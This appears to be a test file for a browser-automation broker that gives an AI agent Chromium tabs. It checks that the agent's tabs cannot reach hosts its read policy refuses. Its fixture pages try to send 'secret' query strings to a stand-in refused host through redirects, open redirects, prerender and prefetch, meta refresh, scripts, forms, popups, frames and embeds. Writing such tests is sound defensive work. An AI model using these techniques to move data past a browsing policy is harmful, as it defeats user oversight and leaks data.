// The network boundary for navigations: a navigation request of an agent tab (top frame or frame, every
// redirect hop, page-started or agent-started) to an origin the read policy refuses is stopped before it is
// sent. The witness is the refused host's own server: it must see no request at all. Real Chromium with the
// real extension (declarativeNetRequest) and over CDP (Fetch interception), the real MCP SDK client. Then what the
// agent sees when a page leaves the policy (the call refused, the tab reset, no tab left behind), and the user's
// own tabs, which are never scoped.
import { mkdtempSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { WebSocket } from "ws";
import { findChromium, launchChromium, prepareExtension, type LaunchedBrowser } from "../../packages/broker/src/index.js";
import {
  allowYaml,
  article,
  browserConnected,
  call,
  connectClient,
  DRIVERS,
  PAIRING_TOKEN,
  removeProfile,
  startBroker,
  startSession,
  startSite,
  waitFor,
  type TestBroker,
  type TestSite,
} from "../harness.js";
import { devToolsEndpoint } from "../extensionUi.js";

/** The refused host: "localhost" is outside the test policy (which allows 127.0.0.1). Logs every request. */
interface Witness {
  origin: string;
  requests: string[];
  close(): Promise<void>;
}

async function startWitness(): Promise<Witness> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Content-Type": "text/html" });
    res.end("<html><head><title>Refused</title></head><body><p>REFUSED HOST CONTENT</p></body></html>");
  });
  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://localhost:${port}`,
    requests,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

let site: TestSite;
let witness: Witness;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

beforeAll(async () => {
  site = await startSite("127.0.0.1");
  witness = await startWitness();
  const away = (path: string) => `${witness.origin}${path}`;
  const html = (title: string, body: string) => `<!doctype html><html><head><title>${title}</title></head><body>${body}</body></html>`;
  site.route("/article", article("A page that stays", 10, "The closing paragraph."));
  site.route("/redirect-home", (_req, res) => {
    res.writeHead(302, { Location: "/article" });
    res.end();
  });
  site.route("/r302", (_req, res) => {
    res.writeHead(302, { Location: away("/exfil?q=secret-302") });
    res.end();
  });
  // An open redirect: the allowed site sends the tab wherever its query says.
  site.route("/open-redirect", (req, res) => {
    const to = new URL(req.url ?? "/", site.origin).searchParams.get("to") ?? "/";
    res.writeHead(307, { Location: to });
    res.end();
  });
  site.route("/chain-1", (_req, res) => {
    res.writeHead(307, { Location: "/chain-2" });
    res.end();
  });
  site.route("/chain-2", (_req, res) => {
    res.writeHead(301, { Location: away("/exfil?q=secret-chain") });
    res.end();
  });
  // Speculation rules: the browser itself prefetches and prerenders, each outside the tab's own requests.
  site.route(
    "/speculation",
    html(
      "Speculation",
      `<p>Preloads.</p><script type="speculationrules">{"prerender":[{"source":"list","urls":["${away("/exfil?q=secret-prerender")}"]}],"prefetch":[{"source":"list","urls":["${away("/exfil?q=secret-prefetch")}"]}]}</script><link rel="prerender" href="${away("/exfil?q=secret-link-prerender")}">`,
    ),
  );
  site.route("/meta", html("Meta", `<meta http-equiv="refresh" content="0;url=${away("/exfil?q=secret-meta")}"><p>Refreshing</p>`));
  site.route(
    "/script-nav",
    html("Script", `<p>Leaving soon.</p><script>setTimeout(() => { location.href = ${JSON.stringify(away("/exfil?q=secret-script"))}; }, 200)</script>`),
  );
  site.route("/script-nav-now", html("Script now", `<p>Leaving now.</p><script>location.replace(${JSON.stringify(away("/exfil?q=secret-now"))})</script>`));
  site.route("/popup", html("Popup", `<p>Opens a tab.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-popup"))})</script>`));
  site.route(
    "/popup-late",
    html("Popup later", `<p>Opens a tab later.</p><script>setTimeout(() => window.open(${JSON.stringify(away("/exfil?q=secret-popup-late"))}), 300)</script>`),
  );
  site.route("/popup-redirect", html("Popup via redirect", `<p>Opens an allowed URL that redirects away.</p><script>window.open("/r302")</script>`));
  site.route(
    "/form",
    html(
      "Form",
      `<form id="f" method="post" action="${away("/exfil")}"><input name="q" value="secret-form"></form><script>document.getElementById("f").submit()</script>`,
    ),
  );
  site.route(
    "/form-get",
    html(
      "Form GET",
      `<form id="f" action="${away("/exfil")}"><input name="q" value="secret-form-get"></form><script>setTimeout(() => document.getElementById("f").requestSubmit(), 100)</script>`,
    ),
  );
  site.route(
    "/frames",
    html(
      "Frames",
      `<h1>Host page</h1><p>The host page's own words.</p><iframe src="${away("/exfil?q=secret-frame")}"></iframe><iframe src="/frame-inner"></iframe>`,
    ),
  );
  site.route(
    "/frame-inner",
    html("Inner", `<p>Inner frame text.</p><iframe src="${away("/exfil?q=secret-nested")}"></iframe><iframe src="/frame-redirect"></iframe>`),
  );
  site.route("/frame-redirect", (_req, res) => {
    res.writeHead(302, { Location: away("/exfil?q=secret-frame-redirect") });
    res.end();
  });
  site.route(
    "/object",
    html(
      "Object",
      `<p>Embeds documents.</p><object data="${away("/exfil?q=secret-object")}" type="text/html"></object><embed src="${away("/exfil?q=secret-embed")}" type="text/html">`,
    ),
  );
  site.route(
    "/frame-later",
    html(
      "Frame later",
      `<p>Adds a frame.</p><script>setTimeout(() => { const f = document.createElement("iframe"); f.src = ${JSON.stringify(away("/exfil?q=secret-late-frame"))}; document.body.append(f); }, 200)</script>`,
    ),
  );
  site.route(
    "/frame-srcdoc",
    html(
      "Srcdoc",
      `<iframe srcdoc="<p>inside</p><a id=a href='${away("/exfil?q=secret-srcdoc")}'>go</a><script>location.href=document.getElementById('a').href</script>"></iframe>`,
    ),
  );
  site.route(
    "/popup-noopener",
    html(
      "Popup noopener",
      `<p>Opens a tab it cannot see.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-noopener"))}, "_blank", "noopener")</script>`,
    ),
  );
  site.route(
    "/form-blank",
    html(
      "Form to a new tab",
      `<form id="f" target="_blank" method="post" action="${away("/exfil")}"><input name="q" value="secret-form-blank"></form><script>document.getElementById("f").submit()</script>`,
    ),
  );
  site.route(
    "/click-away",
    html("Click away", `<button onclick="location.href=${JSON.stringify(away("/exfil?q=secret-click")).replace(/"/g, "&quot;")}">Go</button>`),
  );
  site.route(
    "/link",
    html(
      "Link",
      `<a id="go" href="${away("/exfil?q=secret-link")}" target="_blank">Open</a><script>setTimeout(() => document.getElementById("go").click(), 100)</script>`,
    ),
  );
}, 60_000);

afterAll(async () => {
  await site?.close();
  await witness?.close();
});

describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
  let broker: TestBroker;
  let client: Client;
  let closeSession: () => Promise<void> = async () => undefined;

  beforeAll(async () => {
    // A click grant for "Go": an action the agent may take, after which the page tries to leave.
    ({
      broker,
      client,
      close: closeSession,
    } = await startSession(driver, {
      yaml: `policy:\n  read:\n    allow:\n      "127.0.0.1": [".*"]\n  write:\n    click:\n      "127.0.0.1": { label: "^Go$" }\nread:\n  load_timeout_ms: 5000\n`,
    }));
  }, 60_000);

  afterAll(() => closeSession());

  afterEach(async () => {
    // Whatever a case did, the refused host never heard of it.
    const heard = witness.requests.splice(0);
    expect(heard).toEqual([]);
    const tabs = await call(client, "list_tabs");
    for (const m of tabs.text.matchAll(/tab (\d+):/g)) await call(client, "close_tab", { tab: Number(m[1]) });
  });

  it("an allowed redirect still loads (positive control)", async () => {
    const result = await call(client, "read_url", { url: `${site.origin}/redirect-home` });
    expect(result.isError).toBe(false);
    expect(result.text).toContain("The closing paragraph.");
  });

  it("a 302 from an allowed page to a refused host is stopped before it is sent", async () => {
    const result = await call(client, "read_url", { url: `${site.origin}/r302` });
    expect(result.isError).toBe(true);
    expect(result.text).toContain("policy_denied");
    expect(result.text).toContain(`${witness.origin}/exfil?q=secret-302`);
    expect(result.text).toMatch(/stopped the request before it left the browser/);
  });

  it("speculation rules (prefetch, prerender) and <link rel=prerender> send nothing to a refused host", async () => {
    // Found by an audit over CDP: both reached the refused host (a prerender runs in a target of its own).
    const opened = await call(client, "open_tab", { url: `${site.origin}/speculation` });
    expect(opened.isError).toBe(false);
    await sleep(1500);
  });

  it("an open redirect, a 307 then 301 chain and a meta refresh are stopped", async () => {
    const open = await call(client, "open_tab", { url: `${site.origin}/open-redirect?to=${encodeURIComponent(`${witness.origin}/exfil?q=secret-open`)}` });
    expect(open.isError).toBe(true);
    expect(open.text).toContain("policy_denied");
    const chain = await call(client, "read_url", { url: `${site.origin}/chain-1` });
    expect(chain.isError).toBe(true);
    expect(chain.text).toContain("secret-chain");
    const meta = await call(client, "read_url", { url: `${site.origin}/meta` });
    // The refresh may fire before or after the load the call waits for: refused or read, never sent.
    if (meta.isError) expect(meta.text).toContain("policy_denied");
    await sleep(500);
  });

  it("script navigations, form submissions and links the page starts are stopped", async () => {
    for (const path of ["/script-nav", "/script-nav-now", "/form", "/form-get"]) {
      const opened = await call(client, "open_tab", { url: `${site.origin}${path}` });
      // The attempt is reported by the call it happened in, or by the next call on the tab, naming where the
      // page tried to go.
      let refusal = opened;
      if (!opened.isError) {
        const id = Number(/tab (\d+)/.exec(opened.text)?.[1]);
        // The tab is left blank once its page's attempt was stopped.
        await waitFor(`${path}: the tab to be reset`, async () =>
          (await call(client, "list_tabs")).text.includes(`tab ${id}: «about:blank»`) ? true : undefined,
        );
        refusal = await call(client, "read_page", { tab: id });
        await call(client, "close_tab", { tab: id });
      }
      expect(refusal.isError, `${path}: ${refusal.text}`).toBe(true);
      expect(refusal.text).toContain("policy_denied");
      expect(refusal.text).toContain(`${witness.origin}/exfil`);
      expect(refusal.text).toMatch(/stopped the request before it left the browser/);
    }
  });

  it("window.open and target=_blank links to a refused host send nothing, also from a redirect in the new tab", async () => {
    for (const path of ["/popup", "/popup-late", "/popup-redirect", "/popup-noopener", "/form-blank", "/link"]) {
      await call(client, "open_tab", { url: `${site.origin}${path}` });
      await sleep(800);
    }
    const tabs = await call(client, "list_tabs");
    expect(tabs.text).not.toContain("REFUSED");
  });

  it("frames, nested frames, frame redirects, late frames, srcdoc frames, <object> and <embed> to a refused host send nothing", async () => {
    const read = await call(client, "read_url", { url: `${site.origin}/frames`, mode: "full" });
    expect(read.isError).toBe(false);
    expect(read.text).toContain("The host page's own words.");
    expect(read.text).not.toContain("REFUSED HOST CONTENT");
    for (const path of ["/frame-later", "/frame-srcdoc", "/object"]) {
      await call(client, "open_tab", { url: `${site.origin}${path}` });
      await sleep(600);
    }
  });

  it("a granted click whose page then heads for a refused host reports the stopped request; the click itself happened", async () => {
    const opened = await call(client, "open_tab", { url: `${site.origin}/click-away` });
    const tab = Number(/tab (\d+)/.exec(opened.text)?.[1]);
    const snapshot = await call(client, "snapshot", { tab });
    const revision = /revision: (\S+)/.exec(snapshot.text)?.[1] ?? "";
    const ref = /button "Go" \[ref=([^\]]+)\]/.exec(snapshot.text)?.[1] ?? "";
    const clicked = await call(client, "click", { tab, ref, revision });
    expect(clicked.isError, clicked.text).toBe(false);
    expect(clicked.text).toContain(`the page then tried to go to «${witness.origin}/exfil?q=secret-click»`);
    expect(clicked.text).toContain("stopped the request before it left the browser");
    expect(clicked.text).not.toContain("the tab navigated to");
    await waitFor("the tab to be reset", async () => ((await call(client, "list_tabs")).text.includes(`tab ${tab}: «about:blank»`) ? true : undefined));
  });

  it("the audit log records each stopped navigation", async () => {
    await call(client, "read_url", { url: `${site.origin}/r302` });
    const rows = await waitFor("a navigation record", () => {
      const found = broker.broker.audit.list({ limit: 1000 }).filter((r) => r.tool === "navigation");
      return found.length > 0 ? found : undefined;
    });
    expect(rows.some((r) => r.decision === "refused" && r.code === "policy_denied" && r.origin === witness.origin)).toBe(true);
  });
});

// The user's own tabs are never scoped: a page of theirs navigating or opening a tab to a host the agent may not
// read works as before, even on a site an agent tab shows at the same time (a new tab that could still have
// been an agent page's popup is held for a moment, then sent on). Extension only: over CDP tabrelay's own
// browser has no tabs of the user's, and an attached browser's user tabs are never intercepted.
describe("the user's tabs with the extension driver", () => {
  let broker: TestBroker;
  let client: Client;
  let browser: LaunchedBrowser;
  let profileDir: string;
  let signal = "";
  /** The user's page polls for what to do next. */
  const polls: string[] = [];

  beforeAll(async () => {
    site.route("/signal", (req, res) => {
      polls.push(`${Date.now()} ${req.url}`);
      res.writeHead(200, { "Content-Type": "text/plain", "Cache-Control": "no-store" });
      res.end(signal);
    });
    site.route(
      "/user-start",
      `<!doctype html><html><head><title>User page</title></head><body><p>The user's own page.</p><script>
const done = new Set();
setInterval(async () => {
  const what = await (await fetch("/signal")).text();
  if (!what || done.has(what)) return;
  done.add(what);
  if (what === "popup") window.open(${JSON.stringify(`${witness.origin}/user-popup`)});
  if (what === "nav") location.href = ${JSON.stringify(`${witness.origin}/user-nav`)};
}, 100);
</script></body></html>`,
    );
    broker = await startBroker({ yaml: allowYaml() });
    profileDir = mkdtempSync(join(tmpdir(), "tabrelay-profile-"));
    const extensionDir = prepareExtension(profileDir, `ws://127.0.0.1:${broker.port}/bridge`, PAIRING_TOKEN, "test chromium");
    browser = launchChromium({
      chromiumPath: findChromium(),
      profileDir,
      extensionDir,
      headless: true,
      extraArgs: ["--disable-popup-blocking", "--remote-debugging-port=0"],
    });
    await browserConnected(broker);
    client = await connectClient(broker.url);
    // The user opens a tab of their own (here through DevTools, which the extension knows nothing about).
    const devtools = new WebSocket(await devToolsEndpoint(profileDir));
    await new Promise((resolve, reject) => devtools.once("open", resolve).once("error", reject));
    devtools.send(JSON.stringify({ id: 1, method: "Target.createTarget", params: { url: `${site.origin}/user-start` } }));
    await waitFor("the user's page to load and poll", () => polls.length > 0 || undefined, 20_000);
    devtools.close();
  }, 60_000);

  afterAll(async () => {
    await client?.close();
    await browser?.kill();
    await broker?.close();
    await removeProfile(profileDir);
  });

  it("a user's page opens a tab and navigates to a host outside the agent's policy, with an agent tab on the same site", async () => {
    witness.requests.splice(0);
    const opened = await call(client, "open_tab", { url: `${site.origin}/article` });
    expect(opened.isError).toBe(false);
    signal = "popup";
    await waitFor("the user's popup to reach its host", () => witness.requests.some((r) => r.startsWith("GET /user-popup")) || undefined, 10_000);
    signal = "nav";
    await waitFor("the user's navigation to reach its host", () => witness.requests.some((r) => r.startsWith("GET /user-nav")) || undefined, 10_000);
    // Neither is the agent's.
    const tabs = await call(client, "list_tabs");
    expect(tabs.text).not.toContain("localhost");
    expect(tabs.text).not.toContain("User page");
    witness.requests.splice(0);
  });
});

// What the agent sees when a page leaves the read policy: the call is refused or the tab reset, no tab is left
// on the refused page, and its text never reaches the agent. A second, off-policy test server ("localhost") holds
// the page the tabs try to reach.
describe.each(DRIVERS)("the read policy is a boundary, with the %s driver", (driver) => {
  let site: TestSite;
  let offsite: TestSite;
  let client: Client;
  let closeSession: () => Promise<void> = async () => undefined;

  beforeAll(async () => {
    site = await startSite("127.0.0.1");
    offsite = await startSite("localhost");
    offsite.route("/secret", "<html><head><title>Secret</title></head><body><p>OFFSITE SECRET TEXT</p></body></html>");
    site.route("/redirect-away", (_req, res) => {
      res.writeHead(302, { Location: `${offsite.origin}/secret` });
      res.end();
    });
    site.route(
      "/js-away",
      `<html><head><title>Leaving</title></head><body><p>Going elsewhere soon.</p><script>setTimeout(() => { location.href = "${offsite.origin}/secret"; }, 300)</script></body></html>`,
    );
    site.route(
      "/meta-away",
      `<html><head><title>Meta</title><meta http-equiv="refresh" content="0;url=${offsite.origin}/secret"></head><body>Refreshing</body></html>`,
    );
    site.route(
      "/popup",
      `<html><head><title>Popup opener</title></head><body><p>Opens a tab.</p><script>window.open("${offsite.origin}/secret")</script></body></html>`,
    );
    // Popups allowed over CDP too, as for the extension's browser (harness.ts): the agent page's popup must open.
    ({ client, close: closeSession } = await startSession(driver, { yaml: allowYaml("read:\n  load_timeout_ms: 4000\n") }, { allowPopups: true }));
  }, 60_000);

  afterAll(async () => {
    await closeSession();
    await site?.close();
    await offsite?.close();
  });

  it("refuses a redirect that leaves the allowlist and leaves no tab behind", async () => {
    const result = await call(client, "read_url", { url: `${site.origin}/redirect-away` });
    expect(result.isError).toBe(true);
    expect(result.text).toMatch(/^policy_denied: .*localhost/);
    expect(result.text).not.toContain("OFFSITE SECRET TEXT");
    expect((await call(client, "list_tabs")).text).toContain("No agent tabs");
  });

  it("resets a tab that a script navigated off-policy after load", async () => {
    const opened = await call(client, "open_tab", { url: `${site.origin}/js-away` });
    expect(opened.isError).toBe(false);
    const tabId = Number(/Opened tab (\d+)/.exec(opened.text)?.[1]);
    await waitFor("the tab to be reset", async () => ((await call(client, "list_tabs")).text.includes("about:blank") ? true : undefined));
    const read = await call(client, "read_page", { tab: tabId });
    expect(read.isError).toBe(true);
    expect(read.text).not.toContain("OFFSITE SECRET TEXT");
    await call(client, "close_tab", { tab: tabId });
  });

  it("resets a meta refresh to an off-policy page", async () => {
    const result = await call(client, "read_url", { url: `${site.origin}/meta-away` });
    if (!result.isError) expect(result.text).not.toContain("OFFSITE SECRET TEXT");
    await waitFor("no tab left on the off-policy page", async () => (!(await call(client, "list_tabs")).text.includes(offsite.origin) ? true : undefined));
  });

  it("polices a tab that an agent page opened", async () => {
    const opened = await call(client, "open_tab", { url: `${site.origin}/popup` });
    const openerId = Number(/Opened tab (\d+)/.exec(opened.text)?.[1]);
    const tabs = await waitFor("the popup tab to be listed and reset", async () => {
      const text = (await call(client, "list_tabs")).text;
      const ids = [...text.matchAll(/tab (\d+):/g)].map((m) => Number(m[1]));
      return ids.length >= 2 && !text.includes(offsite.origin) && text.includes("about:blank") ? ids : undefined;
    });
    for (const id of tabs) await call(client, "close_tab", { tab: id });
    expect(tabs).toContain(openerId);
  });
});
